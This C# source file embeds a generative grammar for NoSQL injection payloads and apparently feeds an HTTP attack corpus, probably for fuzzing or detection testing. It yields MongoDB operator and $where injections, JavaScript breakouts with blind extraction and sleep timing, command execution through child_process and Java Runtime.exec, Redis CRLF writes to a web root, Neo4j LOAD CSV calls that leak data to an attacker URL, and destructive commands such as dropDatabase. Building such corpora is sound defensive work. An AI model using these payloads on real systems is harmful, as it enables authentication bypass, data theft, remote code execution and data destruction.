namespace Weir.Http.Corpus.Attacks;

/// <summary>Operators and scripts inside queries of document stores: as JSON, as bracketed parameters, as JavaScript, and the query languages of other stores.</summary>
internal static class Nosqli
{
    public const string Text = """"
        §attack
        6× «jsonop»
        5× «bracket»
        5× «jsbreak»
        4× «whereval»
        2× «otherstore»
        2× «wrapped»
        «encoded»

        ¶ ---- operators in JSON ----
        §jsonop
        5× {"«field»"«col»«opobject»}
        4× {"«field»"«col»«opobject»,«sp»"«field2»"«col»««opobject»¦"«word»"»}
        3× "«field»"«col»«opobject»
        4× «opobject»
        2× "«op»"«col»«cmpvalue»
        {"«logic»"«col»[{"«field»"«col»«scalar»},«sp»{"«field»"«col»«opobject»}]}
        2× {"«logic»"«col»[{},«sp»{"«field»"«col»"«word»"}]}
        "«logic»"«col»[«opobject»,«sp»{"«field»"«col»"«word»"}]
        {"$where"«col»"«jsbody→json»"}
        "$where"«col»"«jsbody→json»"
        {"$expr"«col»{"«cmpexpr»}}
        {"$expr"«col»{"«fn»}}
        {"«field»"«col»{"$not"«col»«opobject»}}
        {"«field»"«col»{"$elemMatch"«col»«opobject»}}
        [«opobject»]
        [{"«stage»"«col»«stagebody»}]
        [{"$match"«col»{}},«sp»{"«stage»"«col»«stagebody»}]
        {"«query¦filter¦where¦selector¦find¦conditions»"«col»{"«field»"«col»«opobject»}«¦,"«limit¦skip¦fields»":«num»»}
        {"«field».«field2»"«col»«opobject»}
        {"mapReduce"«col»"«word»","map"«col»"function(){«jsstatement→json»}","reduce":"function(k,v){return 1}"}
        §sp
        2× ␠
        3×
        §col
        3× :
        3× :␠
        ␠:␠
        §field
        5× «username¦password¦user¦pass¦login¦email¦_id¦token¦id¦name»
        2× «passwd¦pwd¦role¦isAdmin¦resetToken¦otp¦code¦apiKey¦title¦category¦price¦active¦session¦key»
        «word»
        §field2
        4× «password¦pass¦pwd¦passwd¦token¦email¦otp¦role»
        «field»
        §opobject
        8× {"«op»"«col»«cmpvalue»}
        3× {"$regex"«col»"«rx»"«¦,«sp»"$options"«col»"i"»}
        2× {"«$in¦$nin¦$all»"«col»[«scalar»«¦,«sp»«scalar»«¦,«scalar»»»]}
        2× {"«op»"«col»«cmpvalue»,«sp»"«cmp2»"«col»«cmpvalue»}
        {"$exists"«col»«true¦false¦1»}
        {"$where"«col»"«jsbody→json»"}
        {"$type"«col»«#1-19»}
        {"$not"«col»{"«op»"«col»«cmpvalue»}}
        {"$mod"«col»[«#1-9»,0]}
        {"$size"«col»«#0-9»}
        {"$func"«col»"«var_dump¦phpinfo¦system»"}
        {'«op»'«col»«'«word»'¦''¦null¦«num»»}
        {«op»«col»«cmpvalue»}
        {"$regex"«col»{"$ne":""}}
        §op
        6× $ne
        4× $gt
        2× $gte
        2× $lt
        2× $lte
        2× $nin
        2× $regex
        «$eq¦$in¦$exists¦$not¦$all¦$type¦$where¦$or¦$and¦$comment»
        §cmp2
        «$nin¦$ne¦$lt¦$gt¦$exists¦$regex¦$lte»
        §cmpvalue
        3× null
        3× ""
        3× «num»
        3× "«word»"
        «undefined¦true¦false¦[]¦{}¦-1¦[«num»]¦[""]¦"^"¦".*"¦NaN¦"0"¦Infinity¦{"$gt":""}¦["«word»","«word»"]»
        §scalar
        "«word»"
        «num»
        «null¦true¦""¦{}»
        §rx
        3× .*
        2× ^«letter»
        2× ^«letter*1-3».*
        ^«word»
        «^.¦.{«#1-40»}¦^.{«#1-40»}$¦«letter».«letter»¦[a-z]¦.+¦^[^«letter»]¦^(?=.*«word»)¦^a|b¦\\d+¦^$|.*¦«letter»*¦(a+)+$¦^.{1,}$¦^«word».{«#1-9»}$»
        §logic
        4× $or
        2× $and
        $nor
        §cmpexpr
        $«eq¦ne¦gt»":["$«field»","«word»"]
        §fn
        $function":{"body":"function(){«jsstatement→json»}","args":["$«field»"],"lang":"js"}
        §stage
        $«lookup¦out¦merge¦unionWith¦project¦match¦group¦facet¦graphLookup¦addFields»
        §stagebody
        {"from"«col»"«users¦admin¦accounts¦secrets»","localField"«col»"«field»","foreignField"«col»"«field2»","as"«col»"«letter»"}
        "«users¦admin¦accounts¦«word»»"
        {"«field»"«col»«opobject»}
        {"_id"«col»null,"«letter»"«col»{"$push"«col»"$$ROOT"}}
        {"coll"«col»"«users¦admin¦accounts»","pipeline"«col»[]}

        ¶ ---- operators in bracketed parameters ----
        §bracket
        6× «field»[«op»]=«bracketvalue»
        4× «field»[«op»]=«bracketvalue»&«field2»[«op»]=«bracketvalue»
        2× «field»=«word»&«field2»[«op»]=«bracketvalue»
        2× «field»[$regex]=«rx»
        «field»[«op»]=«bracketvalue»&«field2»[$regex]=«rx»«¦&«submit¦login¦remember»=«login¦1¦on»»
        2× «field»[$in][«¦0¦]»]=«word»«¦&«field»[$in][]=«word»»
        «field»[$nin][]=«word»«¦&«field»[$nin][]=«word»»
        «field»[$not][$«regex¦gt¦eq»]=«word»
        «field»[$regex]=«rx»&«field»[$options]=i
        «$or¦$and»[«0¦»][«field»][«op»]=«bracketvalue»«¦&$or[1][«field2»]=«word»»
        «$where¦[$where]¦query[$where]¦«field»[$where]»=«jsbody»
        2× [«op»]=«bracketvalue»
        2× [«op»]
        «field»[«op»]
        «field»%5b«op»%5d=«bracketvalue»
        «field»%5B%24«ne¦gt¦regex¦in¦exists¦nin¦lt»%5D=«bracketvalue»
        ?«field»[«op»]=«bracketvalue»
        «filter¦where¦query»[«field»][«cmp¦like¦regexp¦neq¦inq¦gt»]=«bracketvalue»
        «filter¦where»[«include¦or¦and»][«#0-3»][«field»]«[«op»]¦»=«bracketvalue»
        $«field»[«ne¦gt»]=«bracketvalue»
        «field».«op»=«bracketvalue»
        §bracketvalue
        3× «num»
        3× «word»
        2×
        2× «rx»
        «null¦undefined¦true¦false¦-1¦toto¦0»

        ¶ ---- breaking out of a JavaScript string ----
        §jsbreak
        6× «jsq»«close»«sp»«jsor»«sp»«jstrue»«jstail»
        3× ««word»¦»«jsq»«close»«sp»«jsor»«sp»«jsthis»«jstail»
        3× ««word»¦»«jsq»«close»;«sp»«jsstatement»«jstail2»
        2× «jsq»«sp»«jsor»«sp»«jsq»«$a:letter»«jsq»«==¦===¦=»«jsq»«$a»
        2× «jsq»}«,«sp»¦»«$or¦"$or"¦'$or'»:«sp»[{}, {«jsq»«letter»«jsq»:«jsq»«letter»«¦«jsq»} ],»
        «jsq», «$where:«sp»«jsq»1 == 1«jsq»¦«field»: {$ne: 1}¦"$where": "1==1"¦$or: [ {}, { 'a':'a»
        «jsq»; return «true¦'«letter»' == '«letter»' && ''=='¦this.«field2» != '«word»'»; «var a=«jsq»¦//¦}//»
        «num»«;¦,¦}¦)»«sp»«jsstatement»«jstail2»
        «num» || «jstrue»«jstail»
        true, $where: '«jsbody»'
        , $where: '«jsbody»'
        $where: '«jsbody»'
        db.«users¦getCollectionNames()¦«word».find()¦injection.insert({«word»:«num»})¦stores.mapReduce(function() { { emit(1,1); } },function(k,v){return 1},{out:"«letter»"})¦version()¦dropDatabase()¦adminCommand({listDatabases:1})¦«word».remove({})¦loadServerScripts();«jsstatement»»«;¦»
        «jsq»});«sp»db.«word».«insert({«letter»:«num»})¦drop()¦find({})¦remove()»;«sp»«jstail2»
        { $ne: ««num»¦null¦"«word»"» }
        {$gt: ''}
        || «num»==«num»«//¦%00¦»
        §jsq
        5× '
        3× "
        \'
        `
        %27
        %22
        §close
        4×
        )
        }
        })
        ])
        §jsor
        5× ||
        2× &&
        «|¦&¦␠or␠¦␠and␠¦;return␠»
        §jstrue
        3× «$n:num»«==¦===»«$n»
        3× «jsq»«$n:letter»«jsq»«==¦===¦=»«jsq»«$n»
        2× 1==1
        true
        1
        «jsq»«jsq»==«jsq»
        «jsq»«letter»«jsq»!=«jsq»«letter»
        «num»«!=¦>¦<»«num»
        !0
        0==1
        §jstail
        3× //
        2× %00
        «jsq»
        /*
        2×
        ;//
        «jsq»//
        ␀
        });//
        «jsq»}//
        || «jsq»«jsq»==«jsq»
        §jstail2
        2× //
        2× «jsq»
        var «letter»=«jsq»
        }//
        %00
        ;'

        §jsthis
        3× this.«field2»«==¦===¦!=»«'«word»'¦null¦''¦undefined¦"«word»"»
        3× this.«field2».match(/«rx»/)
        2× this.«field2»«.length¦.length()¦[0]»«==¦===¦>¦<»««num»¦'«letter»'»
        «obj¦this¦tojsononeline(this)¦JSON.stringify(this)».«substring(0,«#1-9»)¦charAt(«num»)¦charCodeAt(«num»)¦indexOf('«letter»')»«==¦>»«'«letter»'¦«num»»
        Object.keys(this)[«#0-9»].«match('^.{0}«letter».*')¦length==«#1-20»¦charAt(«#0-9»)=='«letter»'»
        «hex_md5¦eval»(this.«field2»)«.match(/«rx»/)¦=='«hexdigit*8»'¦»
        this.«field»«==¦!=»this.«field2»
        §jsstatement
        4× sleep(«#1-30»«¦000»)
        2× return «true¦1¦this.«field2»==this.«field»¦«jstrue»¦JSON.stringify(this)¦(function(){«jsstatement»})()»
        2× «var¦let» «$d:letter»=new Date();«sp»do{«$e:letter»=new Date();}while(«$e»-«$d»<«#1-30»000)
        while(«1¦true»)«;¦{}»
        throw new Error(«JSON.stringify(this)¦tojson(this)¦db.getName()¦'«rand»'»)
        «it=new Date();do{pt=new Date();}while(pt-it<«#1-20»000);»
        this.constructor.constructor("return process«.mainModule.require('child_process').execSync('«shellcmd»')¦.exit()¦.env»")()
        require('child_process').«exec¦execSync»('«shellcmd»')
        db.«word».«drop()¦find().count()¦insert({a:1})¦dropDatabase()»
        process.«exit()¦kill(process.pid)¦mainModule.require('child_process').execSync('id')»
        if(«jsthis»){sleep(«#1-9»000)}else{return 1}

        ¶ ---- $where and $function bodies ----
        §whereval
        4× «jsbody»
        2× $where«sp»:«sp»«jsq»«jsbody»«jsq»
        3× this.«field»«==¦===¦!=»«'«word»'¦"«word»"¦null»«sp»«||¦&&»«sp»««jstrue»¦«jsthis»»
        2× function«¦ «letter»»(){«jsstatement»«;¦»}
        function(){return «jsthis»«;¦»}
        (function(){«jsstatement»})()
        () => { «jsstatement» }
        {$function:{body:function(){«jsstatement»},args:[],lang:"js"}}
        {$accumulator:{init:function(){«jsstatement»},lang:"js"}}
        §jsbody
        4× «jsthis»
        3× sleep(«#1-30»000«¦) || true¦);return true»«)¦»
        2× function(){«jsstatement»}
        «jstrue»
        return ««jsthis»¦«jstrue»»
        «jsthis» «&&¦||» ««jsthis»¦«jstrue»»
        if(«jsthis»){sleep(«#1-9»000)}
        this.«field» == '«word»' || «jstrue»

        ¶ ---- query languages of other stores ----
        §otherstore
        2× «'¦"»}«sp»}«sp»)«sp»«return¦RETURN» «letter» //
        2× «'¦"¦')¦'})» «OR¦or¦UNION¦WITH 1 as a» «1=1¦MATCH (n) RETURN n¦MATCH (n) DETACH DELETE n¦LOAD CSV FROM '«evilurl»' AS l RETURN l¦CALL db.labels() YIELD label LOAD CSV FROM '«evilurl»'+label AS b RETURN b¦CALL dbms.components() YIELD name RETURN name¦CALL apoc.load.json('«evilurl»') YIELD value RETURN value» //
        «'¦"» || «ANYOF¦LENGTH»(«letter») || «'¦"»
        «'¦"»«¦)» «FOR¦for» «$v:letter» IN «users¦_users¦«word»» «RETURN¦REMOVE» «$v» «IN users ¦»//
        {"selector"«col»{"_id"«col»{"$gt"«col»null}}«¦,"limit":«num»»}
        /_all_docs?include_docs=true&startkey="«letter»"
        "«*:*¦*»" «OR¦||» «field»:«*¦[* TO *]¦«letter»*»
        «word» «OR¦AND» «_exists_:«field»¦«field»:/.*/¦*:*¦{!xmlparser v='<!DOCTYPE a SYSTEM "«evilurl»"><a></a>'}¦_query_:"{!func}sleep(«num»)"»
        {"query"«col»{"script"«col»{"«source¦inline¦script»"«col»"«java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"«shellcmd»\")¦doc['«field»'].value == '«letter»' || true¦while(true){}»"}}}
        {"size"«col»1,"query"«col»{"«match_all¦wildcard»"«col»{«¦"«field»":"*"»}},"script_fields"«col»{"«rand»"«col»{"script"«col»"«java.lang.Runtime.getRuntime().exec('«shellcmd»')¦Integer.toString(«num»+«num»)»"}}}
        «*1␍␤$«#4-9»␍␤FLUSHALL␍␤¦␍␤SET «rand» «word»␍␤¦%0d%0aCONFIG SET dir /var/www/html%0d%0a¦%0d%0aset «rand» 0 «#0-900» «#1-9»%0d%0a«rand»%0d%0a¦EVAL "«return redis.call('keys','*')¦redis.call('set','«rand»',1)¦local io=package.loadlib('liblua5.1.so.0','luaopen_io')»" 0»
        g.V().«drop()¦has('«field»',within('«word»'))¦map{Runtime.getRuntime().exec('«shellcmd»')}»
        ' «OR¦or» attribute_exists(«field») «OR¦or» ''='
        {"ComparisonOperator"«col»"«GT¦NE¦NOT_NULL¦CONTAINS»","AttributeValueList"«col»[{"«S¦N»"«col»"«*¦0»"}]}
        {"«field»"«col»{"ComparisonOperator"«col»"«NE¦GT»"}}

        §wrapped
        {"«user¦login¦data¦query¦body»"«col»{"«field»"«col»«opobject»,"«field2»"«col»«opobject»}}
        {"query"«col»"query{«user¦users»(«filter¦where»: {«field»: {«_ne¦ne¦$ne¦_like¦_regex»: \"««word»¦»\"}}){id «field2»}"}
        {users(search: "{\"«field»\": {\"«op»\": \"«letter»\"}}"){«field» «field2»}}
        /«login¦api/users¦users¦search¦api/v1/«word»»?«field»[«op»]=«bracketvalue»
        «field»=«opobject»
        «filter¦query¦q¦where»={"«field»"«col»«opobject»}
        j:{"«field»":«opobject»}
        {"username"«col»"«word»","password"«col»{"password"«col»1}}
        {"«field»"«col»{"«__proto__¦constructor¦toString¦password»"«col»«num»}}
        {"where"«col»{"«field»"«col»{"«$gt¦gt¦neq¦like¦regexp¦ilike¦not»"«col»«"0"¦""¦"%25"¦"^"»}}}

        §encoded
        «jsonop→url»
        «bracket→url»
        «jsbreak→url»
        «jsbreak→json»
        «jsonop→b64»
        {"«field»"«col»"«opobject→json»"}
        {"«field»"«col»{"«op→slashu»"«col»«cmpvalue»}}
        """";
}
